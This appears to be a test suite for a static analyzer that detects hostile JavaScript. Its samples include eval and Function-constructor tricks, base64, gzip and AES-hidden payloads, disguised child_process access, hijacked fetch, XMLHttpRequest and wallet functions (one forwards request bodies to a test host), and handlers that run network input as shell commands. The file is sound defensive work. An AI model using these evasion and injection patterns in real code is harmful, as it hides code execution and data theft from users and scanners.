import { describe, expect, test } from "vitest";
import { foundIn } from "./found-in.ts";

const payload = `require("child_process").exec("whoami")`;
const quoted = JSON.stringify(payload);
const packed = JSON.stringify(Buffer.from(payload).toString("base64"));

describe("text that becomes code is read", () => {
  test.each([
    `eval(${quoted})`,
    `(0, eval)(${quoted})`,
    `globalThis.eval(${quoted})`,
    `new Function(${quoted})()`,
    `Function(${quoted})()`,
    `Function("require", ${quoted})(require)`,
    `(() => {}).constructor(${quoted})()`,
    `(async () => {}).constructor(${quoted})()`,
    `[].filter.constructor(${quoted})()`,
    `[]["filter"]["constructor"](${quoted})()`,
    `Reflect.construct(Function, [${quoted}])()`,
    `Object.getPrototypeOf(async function () {}).constructor(${quoted})()`,
    `require("vm").runInThisContext(${quoted})`,
    `require("vm").runInNewContext(${quoted}, { require })`,
    `new (require("vm").Script)(${quoted}).runInThisContext()`,
    `module._compile(${quoted}, "x.js")`,
    `const M = require("module"); const m = new M("x"); m._compile(${quoted}, "x.js")`,
    `setTimeout(${quoted}, 10)`,
    `setInterval(${quoted}, 10)`,
    `new (require("worker_threads").Worker)(${quoted}, { eval: true })`,
    `import("data:text/javascript," + encodeURIComponent(${quoted}))`,
    `const s = document.createElement("script"); s.text = ${quoted}; document.head.appendChild(s)`,
    `const s = document.createElement("script"); s.type = "application/json"; s.text = ${quoted}; s.type = "module"`,
    `document.write("<script>" + ${quoted} + "</script>")`,
    `eval(atob(${packed}))`,
    `eval(Buffer.from(${packed}, "base64").toString("utf8"))`,
    `new Function(new TextDecoder().decode(Buffer.from(${packed}, "base64")))()`,
    `require("child_process").spawn(process.execPath, ["-e", ${quoted}])`,
  ])("%s", (code) => {
    const found = foundIn(code);
    expect(found.kinds).toContain("snk.code");
    expect(found.atoms).toContainEqual(expect.stringContaining("snk.proc whoami"));
  });

  test.each([
    `const s = document.createElement("script"); s.type = "application/ld+json"; s.text = ${quoted}`,
    `const s = document.createElement("script"); s.setAttribute("type", "speculationrules"); s.textContent = ${quoted}`,
  ])("unless it is data: %s", (code) => {
    expect(foundIn(code).kinds).toEqual(["snk.dom"]);
  });

  test("packed bytes are unpacked, and ciphers opened", async () => {
    const { gzipSync } = await import("node:zlib");
    const { createCipheriv } = await import("node:crypto");
    const zipped = gzipSync(payload).toString("base64");
    expect(
      foundIn(`eval(require("zlib").gunzipSync(Buffer.from("${zipped}", "base64")).toString())`)
        .atoms,
    ).toContainEqual(expect.stringContaining("snk.proc whoami"));
    const cipher = createCipheriv("aes-256-cbc", "k".repeat(32), "i".repeat(16));
    const secret = cipher.update(payload, "utf8", "hex") + cipher.final("hex");
    expect(
      foundIn(`const c = require("crypto"); const d = c.createDecipheriv("aes-256-cbc", "k".repeat(32), "i".repeat(16));
        let p = d.update("${secret}", "hex", "utf8"); p += d.final("utf8"); eval(p);`).atoms,
    ).toContainEqual(expect.stringContaining("snk.proc whoami"));
  });
});

test.each([
  `Function("return this")()`,
  `new Function("return this")()`,
  `(0, eval)("this")`,
  `setTimeout(() => {}, 10)`,
  `const f = { eval(x) { return x; } }; f.eval("1")`,
  `document.createElement("div").innerHTML = "<b>x</b>"`,
  `require("vm").createContext({})`,
])("no code comes of %s", (code) => {
  expect(foundIn(code).kinds).not.toContain("snk.code");
});

describe("back doors to modules", () => {
  test.each([
    `process.mainModule.require("child_process").exec("whoami")`,
    `module.constructor._load("child_process").exec("whoami")`,
    `require("module")._load("child_process").exec("whoami")`,
    `process.getBuiltinModule("child" + "_process").exec("whoami")`,
    `process.getBuiltinModule(atob("Y2hpbGRfcHJvY2Vzcw==")).exec("whoami")`,
    `require("child" + "_process").exec("whoami")`,
  ])("%s", (code) => {
    const found = foundIn(code);
    expect(found.atoms).toContainEqual(expect.stringContaining("snk.proc whoami"));
    expect(found.kinds).toContain("ctx.indirect");
  });

  test.each([
    `process.getBuiltinModule("child_process").exec("whoami")`,
    `process.binding("util"); require("child_process").exec("whoami")`,
  ])("a plain door is none: %s", (code) => {
    expect(foundIn(code).kinds).not.toContain("ctx.indirect");
  });

  test("nor is one that a module makes for itself", () => {
    const found = foundIn(
      `const { createRequire } = require("module"); createRequire(__filename)("child_process").exec("whoami")`,
    );
    expect(found.kinds).not.toContain("ctx.indirect");
    expect(found.atoms).toContainEqual(expect.stringContaining("snk.proc whoami"));
  });
});

describe("shared functions that are replaced", () => {
  test.each([
    [`const f = globalThis.fetch; globalThis.fetch = (...a) => f(...a);`, "global.fetch"],
    [`XMLHttpRequest.prototype.open = function () {};`, "global.XMLHttpRequest.prototype.open"],
    [`require("http").request = () => {};`, "node:http.request"],
    [`require("module")._load = () => {};`, "node:module._load"],
    [`require("module").prototype.require = function () {};`, "node:module.prototype.require"],
    [`require("fs").readFileSync = () => {};`, "node:fs.readFileSync"],
    [`JSON.parse = () => {};`, "js:JSON.parse"],
    [`window.ethereum.request = async () => {};`, "global.ethereum.request"],
  ])("%s", (code, name) => {
    expect(foundIn(code).atoms).toContainEqual(
      expect.stringContaining(`snk.patch.global [${name}]`),
    );
  });

  test.each([
    `const api = {}; api.fetch = () => {};`,
    `module.exports.fetch = () => {};`,
    `class A {} A.prototype.open = () => {};`,
    `globalThis.myGlobal = () => {};`,
  ])("nothing shared: %s", (code) => {
    expect(foundIn(code).kinds).not.toContain("snk.patch.global");
  });

  test("what a replacement hands on is traced", () => {
    const found = foundIn(
      `const f = globalThis.fetch; globalThis.fetch = (u, o) => { f("https://a.test", { method: "POST", body: JSON.stringify(o) }); return f(u, o); };`,
    );
    expect(found.flows).toContain("src.param -> snk.net:body");
  });
});

describe("servers and handlers", () => {
  test("a request is what a peer hands in", () => {
    const found = foundIn(
      `require("http").createServer((req, res) => { require("child_process").exec(req.url); }).listen(8080);`,
    );
    expect(found.kinds).toContain("snk.listen");
    expect(found.flows).toContain("src.param -> snk.proc:command");
    expect(found.surfaces["snk.proc"]).toBe("handler");
  });

  test.each([
    `const app = require("express")(); app.get("/x", (req, res) => require("child_process").exec(req.query.c)); app.listen(1);`,
    `import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js"; const s = new McpServer({}); s.tool("x", {}, async (a) => require("child_process").exec(a.c));`,
    `import { Server } from "@modelcontextprotocol/sdk/server/index.js"; const s = new Server({}); s.setRequestHandler({}, async (r) => require("child_process").exec(r.params.c));`,
    `Bun.serve({ fetch(req) { require("child_process").exec(req.url); } });`,
    `require("net").createServer((s) => s.on("data", (d) => require("child_process").exec(d.toString()))).listen(1);`,
  ])("%s", (code) => {
    expect(foundIn(code).flows).toContain("src.param -> snk.proc:command");
  });
});

describe("machine code", () => {
  test("by a path that is not literal", () => {
    expect(foundIn(`process.dlopen(module, "/tmp/x.node")`).kinds).toContain("snk.native");
    expect(foundIn(`require("node-gyp-build")(__dirname)`).kinds).not.toContain("snk.native");
  });
});

test("time and repetition", () => {
  expect(foundIn(`setInterval(() => { fetch("https://a.test"); }, 1000)`).kinds).toContain(
    "ctx.loop",
  );
  expect(foundIn(`setTimeout(() => { fetch("https://a.test"); }, 86400000)`).kinds).toContain(
    "ctx.delay",
  );
  expect(foundIn(`setTimeout(() => { fetch("https://a.test"); }, 1000)`).kinds).not.toContain(
    "ctx.delay",
  );
});

test.each([
  ["a host before what is unknown", `fetch("https://" + "a".repeat(2000000) + Math.random())`],
  ["blanks in code", `eval("this" + " ".repeat(2000000) + "x")`],
  ["a word of a command", `require("child_process").exec("curl " + "a".repeat(60000))`],
  ["braces of a pattern", `require("glob").sync("{".repeat(1000000))`],
  ["buffers in a loop", `for (let i = 0; i < 2000; i++) Buffer.alloc(2000000)`],
  [
    "commands in a loop",
    `for (let i = 0; i < 5000; i++) require("child_process").exec("a; ".repeat(20000) + i)`,
  ],
])("long inputs take no longer than they are: %s", { timeout: 20_000 }, (_name, code) => {
  const start = performance.now();
  foundIn(code);
  expect(performance.now() - start).toBeLessThan(10_000);
});
